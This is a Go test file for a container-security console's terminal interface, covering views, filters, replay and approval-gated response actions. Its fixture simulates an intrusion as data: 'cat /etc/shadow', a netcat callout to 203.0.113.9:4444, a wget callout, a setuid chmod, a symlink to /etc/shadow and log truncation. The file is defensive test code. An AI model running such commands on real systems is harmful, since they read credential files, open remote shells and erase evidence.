package console

import (
	"context"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
)

var update = flag.Bool("update", false, "rewrite the golden screens in testdata/")

var t0 = time.Date(2026, 11, 20, 9, 14, 3, 0, time.UTC)

const (
	webID = "3f9a1c2b7d4e0000000000000000000000000000000000000000000000000001"
	dbID  = "77aa1c2b7d4e0000000000000000000000000000000000000000000000000002"
)

func ptr[T any](v T) *T { return &v }

// fixture is a small incident: a shell in web that reads /etc/shadow and
// calls out, a database beside it.
func fixture() Update {
	return Update{
		ContainersSet: true,
		Containers: []Container{
			{ID: webID, Name: "web", Image: "shop/web:1.4", State: "running", CPUPercent: 12.5, MemoryBytes: 48 << 20},
			{ID: dbID, Name: "db", Image: "postgres:15", State: "paused", Quarantined: true, CPUPercent: 0, MemoryBytes: 300 << 20},
		},
		IncidentsSet: true,
		Incidents: []Incident{{ID: "inc-20261120-091403-ab12cd", ContainerID: webID, Rule: "Terminal shell in container", State: "open",
			OpenedAt: t0, Alerts: 2, Actions: []ActionState{{"slack.notify", "succeeded"}, {"container.pause", "held"}},
			Pending: []PendingAppr{{ID: "ap-1", Action: "container.pause"}}}},
		Procs: []Proc{
			{ContainerID: webID, PID: 100, PPID: 1, User: "root", Cmdline: "nginx -g daemon off;", Started: t0.Add(-time.Hour)},
			{ContainerID: webID, PID: 200, PPID: 100, User: "root", Cmdline: "sh -i", Started: t0},
			{ContainerID: webID, PID: 201, PPID: 200, User: "root", Cmdline: "cat /etc/shadow", Started: t0.Add(time.Second),
				Exited: ptr(t0.Add(2 * time.Second)), ExitCode: ptr[int64](0)},
			{ContainerID: dbID, PID: 300, PPID: 1, User: "postgres", Cmdline: "postgres -D /data", Started: t0.Add(-time.Hour)},
		},
		Conns: []Conn{
			{Time: t0.Add(3 * time.Second), ContainerID: webID, Direction: "out", Proto: "tcp", Client: "172.17.0.2:40000",
				Server: "203.0.113.9:4444", PID: 202, Comm: "nc", Result: "ECONNREFUSED"},
			{Time: t0.Add(3*time.Second + 500*time.Millisecond), ContainerID: webID, Direction: "out", Proto: "tcp", Client: "172.17.0.2:40002",
				Server: "198.51.100.7:443", PID: 203, Comm: "wget", Result: "ETIMEDOUT"},
			{Time: t0.Add(4 * time.Second), ContainerID: dbID, Direction: "in", Proto: "tcp", Client: "172.17.0.2:40001",
				Server: "172.17.0.3:5432", PID: 300, Comm: "postgres", Result: "fd 7"},
		},
		Spies: []Spy{
			{Time: t0.Add(time.Second), ContainerID: webID, User: "root", TTY: "pts/0", Shell: "sh", PID: 201, Cmdline: "cat /etc/shadow"},
			{Time: t0.Add(3 * time.Second), ContainerID: webID, User: "root", TTY: "pts/0", Shell: "sh", PID: 202,
				Cmdline: "nc 203.0.113.9 4444 \x1b[2J"},
		},
		Files: []File{
			{Time: t0.Add(time.Second), ContainerID: webID, Op: "read", PID: 201, Comm: "cat", Path: "/etc/shadow", Result: "fd 3"},
			{Time: t0.Add(5 * time.Second), ContainerID: dbID, Op: "write", PID: 300, Comm: "postgres", Path: "/data/base/1/2", Result: "fd 9"},
			{Time: t0.Add(4*time.Second + 100*time.Millisecond), ContainerID: webID, Op: "rename", PID: 204, Comm: "mv", Path: "/tmp/x", Target: "/usr/bin/x", Result: "ok"},
			{Time: t0.Add(4*time.Second + 200*time.Millisecond), ContainerID: webID, Op: "chmod", PID: 205, Comm: "chmod", Path: "/usr/bin/x", Detail: "mode 04755", Result: "ok"},
			{Time: t0.Add(4*time.Second + 300*time.Millisecond), ContainerID: webID, Op: "symlink", PID: 206, Comm: "ln", Path: "/tmp/s", Target: "/etc/shadow", Result: "ok"},
			{Time: t0.Add(4*time.Second + 400*time.Millisecond), ContainerID: webID, Op: "truncate", PID: 207, Comm: "sh", Path: "/var/log/nginx/access.log",
				Detail: "length 0", Result: "ok"},
			{Time: t0.Add(4*time.Second + 500*time.Millisecond), ContainerID: webID, Op: "delete", PID: 208, Comm: "rm", Path: "/tmp/x.sh", Result: "ok"},
		},
		Alerts: []Alert{{Time: t0, ContainerID: webID, Rule: "Terminal shell in container", Priority: "Notice"},
			{Time: t0, ContainerID: webID, Rule: "Read sensitive file untrusted", Priority: "Warning"}},
		Stats: &Stats{Events: 5120, EventsPerSec: 1234, Drops: 3, Source: "in-process detector"},
	}
}

// actorFunc is an Actor that records what it was asked.
type actorFunc struct {
	mu   sync.Mutex
	got  []Request
	note string
	err  error
}

func (a *actorFunc) Act(_ context.Context, r Request) (string, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.got = append(a.got, r)
	return a.note, a.err
}

func newModel(t *testing.T, view View, actor Actor) *Model {
	t.Helper()
	opts := Options{View: view}
	if actor != nil {
		opts.Actor = actor
	}
	m := New(opts)
	m.Update(tea.WindowSizeMsg{Width: 132, Height: 12})
	m.Update(UpdateMsg(fixture()))
	return m
}

// press sends keys one by one; a key's command runs and its message is
// fed back (an action's outcome), so the screen after press is final.
func press(m *Model, keys ...string) {
	for _, k := range keys {
		var msg tea.KeyMsg
		switch k {
		case "enter":
			msg = tea.KeyMsg{Type: tea.KeyEnter}
		case "esc":
			msg = tea.KeyMsg{Type: tea.KeyEsc}
		case "backspace":
			msg = tea.KeyMsg{Type: tea.KeyBackspace}
		case "down":
			msg = tea.KeyMsg{Type: tea.KeyDown}
		case "up":
			msg = tea.KeyMsg{Type: tea.KeyUp}
		case "f8":
			msg = tea.KeyMsg{Type: tea.KeyF8}
		case "f2":
			msg = tea.KeyMsg{Type: tea.KeyF2}
		default:
			msg = tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(k)}
		}
		_, cmd := m.Update(msg)
		if cmd != nil {
			if out := cmd(); out != nil {
				if _, quit := out.(tea.QuitMsg); !quit {
					m.Update(out)
				}
			}
		}
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden screen (go test -update writes it): %v", err)
	}
	if got != string(want) {
		t.Errorf("screen %s differs from %s (go test -update rewrites it)\n--- got\n%s\n--- want\n%s", name, path, got, want)
	}
}

func TestViewsGolden(t *testing.T) {
	for v := range numViews {
		t.Run(v.String(), func(t *testing.T) {
			m := newModel(t, v, nil)
			golden(t, v.String(), m.View())
		})
	}
}

func TestNumberKeysSwitchViews(t *testing.T) {
	m := newModel(t, Containers, nil)
	for i, k := range []string{"1", "2", "3", "4", "5", "6"} {
		press(m, k)
		if m.view != View(i) {
			t.Errorf("key %s: view %s, want %s", k, m.view, View(i))
		}
		first := strings.SplitN(m.View(), "\n", 2)[0]
		if !strings.Contains(first, "["+k+" "+View(i).String()+"]") {
			t.Errorf("key %s: tab line %q does not mark %s", k, first, View(i))
		}
	}
}

func TestParseView(t *testing.T) {
	tests := []struct {
		in   string
		want View
		err  string
	}{
		{"containers", Containers, ""},
		{"spy-users", SpyUsers, ""},
		{"incidents", Incidents, ""},
		{"spy", 0, `parse view "spy": want one of containers, procs, connections, spy-users, files, incidents`},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := ParseView(tt.in)
			if tt.err != "" {
				if err == nil || err.Error() != tt.err {
					t.Fatalf("err %v, want %q", err, tt.err)
				}
				return
			}
			if err != nil || got != tt.want {
				t.Fatalf("got %v, %v; want %v", got, err, tt.want)
			}
		})
	}
}

func TestDrillDownAndFilter(t *testing.T) {
	m := newModel(t, Containers, nil)
	// Sorted by CPU, web is first: enter shows its processes only.
	press(m, "enter")
	golden(t, "drill-web-procs", m.View())
	// Its connections, still scoped.
	press(m, "3")
	if s := m.View(); strings.Contains(s, "5432") || !strings.Contains(s, "203.0.113.9:4444") {
		t.Errorf("connections scoped to web:\n%s", s)
	}
	// esc leaves the container; a filter narrows every view.
	press(m, "esc", "/", "p", "o", "s", "t", "enter")
	golden(t, "filter-postgres-connections", m.View())
	press(m, "esc")
	if m.filter != "" || m.scope != "" {
		t.Errorf("after esc: filter %q scope %q", m.filter, m.scope)
	}
}

func TestSortByColumn(t *testing.T) {
	m := newModel(t, Containers, nil)
	names := func() []string {
		var out []string
		for _, r := range m.visible() {
			out = append(out, r.cells[0].text)
		}
		return out
	}
	tests := []struct {
		keys []string
		want string
	}{
		{nil, "web,db"},                          // CPU% descending
		{[]string{">"}, "db,web"},                // MEM descending
		{[]string{"i"}, "web,db"},                // MEM ascending
		{[]string{"<", "<", "<", "<"}, "db,web"}, // NAME ascending
	}
	for _, tt := range tests {
		press(m, tt.keys...)
		if got := strings.Join(names(), ","); got != tt.want {
			t.Errorf("after %v: order %s, want %s", tt.keys, got, tt.want)
		}
	}
	if !strings.Contains(m.View(), "NAME^") {
		t.Errorf("the sort column is not marked:\n%s", m.View())
	}
}

func TestActions(t *testing.T) {
	refused := errors.New("container web is protected (label riposte.protect=true): refused")
	tests := []struct {
		name    string
		view    View
		keys    []string
		err     error
		want    []Request
		message string
	}{
		{name: "pause confirmed", view: Containers, keys: []string{"a", "p", "y"},
			want:    []Request{{Action: "container.pause", Container: webID, Incident: "inc-20261120-091403-ab12cd"}},
			message: "container.pause web: paused (journaled)"},
		{name: "pause cancelled", view: Containers, keys: []string{"a", "p", "n"},
			message: "container.pause web: cancelled"},
		{name: "F8 opens the menu too", view: Containers, keys: []string{"f8", "k", "y"},
			want:    []Request{{Action: "container.kill", Container: webID, Incident: "inc-20261120-091403-ab12cd"}},
			message: "container.kill web: paused (journaled)"},
		{name: "unpause needs no confirmation", view: Containers, keys: []string{"down", "a", "u"},
			want:    []Request{{Action: "container.unpause", Container: dbID}},
			message: "container.unpause db: paused (journaled)"},
		{name: "refusal shown", view: Containers, keys: []string{"a", "q", "y"}, err: refused,
			want:    []Request{{Action: "container.quarantine", Container: webID, Incident: "inc-20261120-091403-ab12cd"}},
			message: "container.quarantine web: REFUSED OR FAILED: " + refused.Error()},
		{name: "capture for a duration", view: Containers, keys: []string{"a", "c", "2", "m", "enter"},
			want: []Request{{Action: "capture.start", Container: webID, Incident: "inc-20261120-091403-ab12cd",
				With: map[string]string{"duration": "2m"}}},
			message: "capture.start web: paused (journaled)"},
		{name: "capture rejects a bad duration", view: Containers, keys: []string{"a", "c", "x", "enter"},
			message: `capture web: duration "x": want a positive duration like 30s or 2m`},
		{name: "approve from incidents", view: Incidents, keys: []string{"a", "A", "y"},
			want:    []Request{{Action: "approve", Container: webID, Incident: "inc-20261120-091403-ab12cd", Approval: "ap-1"}},
			message: "approve container.pause on web (ap-1): paused (journaled)"},
		{name: "deny from incidents", view: Incidents, keys: []string{"a", "D"},
			want:    []Request{{Action: "deny", Container: webID, Incident: "inc-20261120-091403-ab12cd", Approval: "ap-1"}},
			message: "deny container.pause on web (ap-1): paused (journaled)"},
		{name: "nothing to approve", view: Containers, keys: []string{"down", "a", "A"},
			message: "approve: no action waits for approval on db"},
		{name: "from a connection row", view: Connections, keys: []string{"a", "s"},
			want:    []Request{{Action: "container.snapshot", Container: dbID}},
			message: "container.snapshot db: paused (journaled)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			actor := &actorFunc{note: "paused", err: tt.err}
			m := newModel(t, tt.view, actor)
			press(m, tt.keys...)
			if len(actor.got) != len(tt.want) {
				t.Fatalf("requests %+v, want %+v", actor.got, tt.want)
			}
			for i := range tt.want {
				g, w := actor.got[i], tt.want[i]
				if g.Action != w.Action || g.Container != w.Container || g.Incident != w.Incident || g.Approval != w.Approval ||
					g.With["duration"] != w.With["duration"] {
					t.Errorf("request %d: %+v, want %+v", i, g, w)
				}
			}
			if m.message != tt.message {
				t.Errorf("message %q, want %q", m.message, tt.message)
			}
		})
	}
}

func TestActionMenuGolden(t *testing.T) {
	m := newModel(t, Containers, &actorFunc{})
	press(m, "a")
	golden(t, "menu", m.View())
	press(m, "p")
	golden(t, "confirm", m.View())
}

func TestNoActorNoActions(t *testing.T) {
	m := newModel(t, Containers, nil)
	press(m, "a", "p", "y")
	if m.mode != modeNormal || !strings.Contains(m.message, "actions are off") {
		t.Errorf("mode %v message %q", m.mode, m.message)
	}
}

func TestEscapeSequencesNeverReachTheTerminal(t *testing.T) {
	m := newModel(t, SpyUsers, nil)
	s := m.View()
	if strings.ContainsRune(s, 0x1b) {
		t.Fatalf("screen carries an escape character:\n%q", s)
	}
	if !strings.Contains(s, "nc 203.0.113.9 4444 ?[2J") {
		t.Errorf("the command line is not shown with the escape replaced:\n%s", s)
	}
}

func TestRowsAreCappedAndSelectionSurvives(t *testing.T) {
	m := newModel(t, Connections, nil)
	press(m, "down") // the older of the two (time descending)
	sel := m.selected[Connections]
	var more []Conn
	for i := range maxEvents {
		more = append(more, Conn{Time: t0.Add(time.Duration(i) * time.Millisecond), ContainerID: webID, Direction: "out", Proto: "udp"})
	}
	m.Update(UpdateMsg{Conns: more[:10]})
	if r, ok := m.current(); !ok || r.key != sel {
		t.Fatalf("selection moved from %s to %s", sel, r.key)
	}
	m.Update(UpdateMsg{Conns: more[10:]})
	if len(m.conns) != maxEvents {
		t.Fatalf("kept %d connections, want %d", len(m.conns), maxEvents)
	}
	if n := uint64(len(fixture().Conns)); m.connBase != n {
		t.Errorf("connBase %d, want %d (the fixture's connections dropped)", m.connBase, n)
	}
}

func TestProcUpdateReplaces(t *testing.T) {
	m := newModel(t, Procs, nil)
	p := fixture().Procs[1]
	p.Exited, p.ExitCode = ptr(t0.Add(9*time.Second)), ptr[int64](130)
	m.Update(UpdateMsg{Procs: []Proc{p}})
	if len(m.procs) != 4 {
		t.Fatalf("%d processes, want 4", len(m.procs))
	}
	if s := m.View(); !strings.Contains(s, "09:14:12 130") {
		t.Errorf("exit not shown:\n%s", s)
	}
}

func TestIncidentByShortID(t *testing.T) {
	m := newModel(t, Containers, &actorFunc{})
	in := fixture().Incidents[0]
	in.ContainerID = webID[:12] // as alerts name containers
	in.Alerts = 9
	m.Update(UpdateMsg{IncidentsSet: true, Incidents: []Incident{in}})
	if !lineHas(m.View(), "web", "9 inc-20261120-091403-ab12cd") {
		t.Errorf("the container row lacks its incident and the incident's alert count:\n%s", m.View())
	}
	press(m, "6")
	if !lineHas(m.View(), "inc-20261120-091403-ab12cd", " web ") {
		t.Errorf("the incident does not name its container:\n%s", m.View())
	}
	press(m, "enter")
	if m.view != Procs || m.scope != webID {
		t.Errorf("drill from the incident: view %s scope %q", m.view, m.scope)
	}
}

func TestReplayTimeCursor(t *testing.T) {
	m := New(Options{View: SpyUsers, Replay: true})
	m.Update(tea.WindowSizeMsg{Width: 132, Height: 12})
	m.Update(UpdateMsg(fixture()))
	// The cursor starts at the end: both commands.
	if n := len(m.visible()); n != 2 {
		t.Fatalf("%d commands at the end, want 2", n)
	}
	press(m, "[", "[") // 09:14:08 -> 09:14:06: the nc at 09:14:06 is still there
	if n := len(m.visible()); n != 2 {
		t.Errorf("%d commands at %s, want 2", n, m.cursorAt)
	}
	press(m, "[")
	golden(t, "replay-spy-users", m.View())
	press(m, "2")
	if s := m.View(); !lineHas(s, "09:14:05 0", "cat /etc/shadow") {
		t.Errorf("procs at %s: cat has exited:\n%s", m.cursorAt, s)
	}
	press(m, "[")
	if s := m.View(); !lineHas(s, "running", "cat /etc/shadow") {
		t.Errorf("procs at %s: cat should run, not have exited yet:\n%s", m.cursorAt, s)
	}
	for range 400 { // 08:14:03, an hour before, in steps of 10s
		press(m, "{")
	}
	if !m.cursorAt.Equal(m.first) {
		t.Errorf("cursor %s, want the start %s", m.cursorAt, m.first)
	}
	for range 400 {
		press(m, "}")
	}
	if !m.cursorAt.Equal(m.last) {
		t.Errorf("cursor %s, want the end %s", m.cursorAt, m.last)
	}
}

// lineHas reports whether one line of the screen holds all of parts.
func lineHas(screen string, parts ...string) bool {
	for _, l := range strings.Split(screen, "\n") {
		ok := true
		for _, p := range parts {
			if !strings.Contains(l, p) {
				ok = false
				break
			}
		}
		if ok {
			return true
		}
	}
	return false
}

// TestKeysArrivingTogether: a terminal delivers keys typed (or sent)
// quickly in one read; each still counts.
func TestKeysArrivingTogether(t *testing.T) {
	m := newModel(t, Containers, nil)
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("3/post")})
	m.Update(tea.KeyMsg{Type: tea.KeyEnter})
	if m.view != Connections || m.filter != "post" {
		t.Fatalf("view %s filter %q, want connections and post", m.view, m.filter)
	}
	// An escape right before a key: alt+key.
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("1"), Alt: true})
	if m.view != Containers || m.filter != "" {
		t.Errorf("after esc 1: view %s filter %q", m.view, m.filter)
	}
}

func TestIncidentActionsAndApprovals(t *testing.T) {
	m := newModel(t, Incidents, nil)
	m.Update(tea.WindowSizeMsg{Width: 220, Height: 12})
	in := fixture().Incidents[0]
	in.Pending = append(in.Pending, PendingAppr{ID: "ap-2", Action: "container.kill"})
	m.Update(UpdateMsg{IncidentsSet: true, Incidents: []Incident{in}})
	want := "slack.notify succeeded, container.pause WAITING ap-1, container.kill WAITING ap-2"
	if !strings.Contains(m.View(), want) {
		t.Errorf("incident row lacks %q:\n%s", want, m.View())
	}
}

func TestF2ViewMenu(t *testing.T) {
	m := newModel(t, Containers, nil)
	press(m, "f2")
	if !strings.Contains(m.View(), "view: 1 containers 2 procs 3 connections 4 spy-users 5 files 6 incidents") {
		t.Fatalf("F2 shows no view menu:\n%s", m.View())
	}
	press(m, "4")
	if m.view != SpyUsers || m.mode != modeNormal || m.message != "" {
		t.Errorf("after F2 4: view %s mode %v message %q", m.view, m.mode, m.message)
	}
	press(m, "f2", "esc")
	if m.view != SpyUsers || m.mode != modeNormal {
		t.Errorf("after F2 esc: view %s mode %v", m.view, m.mode)
	}
}

// commExpr is an expression filter that reads one field of connections,
// the process name: "comm:nc". Other rows do not carry it.
type commExpr string

func (e commExpr) Match(rec any) (match, ok bool) {
	c, isConn := rec.(Conn)
	if !isConn {
		return false, false
	}
	return c.Comm == string(e), true
}

func compileComm(src string) (Expr, error) {
	comm, ok := strings.CutPrefix(src, "comm:")
	if !ok {
		return nil, errors.New("compile filter: not an expression")
	}
	return commExpr(comm), nil
}

func TestExpressionFilter(t *testing.T) {
	m := New(Options{View: Connections, Compile: compileComm})
	m.Update(tea.WindowSizeMsg{Width: 132, Height: 12})
	m.Update(UpdateMsg(fixture()))
	tests := []struct {
		name, typed string
		view        string
		status      string
		want, not   []string
	}{
		{"an expression filters the rows carrying its fields", "comm:wget", "3", `expression "comm:wget"`,
			[]string{"wget(203)"}, []string{"nc(202)", "postgres(300)"}},
		{"views without its fields are not filtered", "comm:wget", "5", `expression "comm:wget" (not on this view's fields)`,
			[]string{"/etc/shadow", "/data/base/1/2"}, nil},
		{"text that does not compile is a substring", "postgres", "3", `filter "postgres"`,
			[]string{"postgres(300)"}, []string{"nc(202)", "wget(203)"}},
		{"a substring that matches nothing hides everything", "comm", "3", `filter "comm"`,
			nil, []string{"nc(202)", "wget(203)", "postgres(300)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			press(m, "esc", tt.view, "/", tt.typed, "enter")
			s := m.View()
			lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
			if st := lines[len(lines)-1]; !strings.Contains(st, tt.status) {
				t.Errorf("status %q, want it to say %s", st, tt.status)
			}
			for _, w := range tt.want {
				if !strings.Contains(s, w) {
					t.Errorf("%q missing:\n%s", w, s)
				}
			}
			for _, n := range tt.not {
				if strings.Contains(s, n) {
					t.Errorf("%q shown:\n%s", n, s)
				}
			}
		})
	}
	press(m, "esc")
	if m.filter != "" || m.expr != nil {
		t.Errorf("after esc: filter %q expr %v", m.filter, m.expr)
	}
}
